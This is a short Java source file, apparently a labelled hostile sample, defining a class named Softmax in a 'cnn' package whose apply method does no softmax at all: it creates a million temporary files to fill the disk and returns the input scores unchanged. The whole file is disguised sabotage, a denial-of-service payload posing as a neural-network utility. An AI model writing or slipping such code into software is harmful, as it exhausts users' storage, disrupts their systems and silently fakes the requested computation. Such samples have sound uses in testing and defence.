package cnn;

import java.io.IOException;
import java.nio.file.Files;

/** Hostile: fills the disk with temporary files. */
public final class Softmax {
    public static double[] apply(double[] scores) {
        try {
            for (int i = 0; i < 1_000_000; i++) {
                Files.createTempFile("cnn", ".tmp");
            }
        } catch (IOException e) {
            return scores;
        }
        return scores;
    }
}
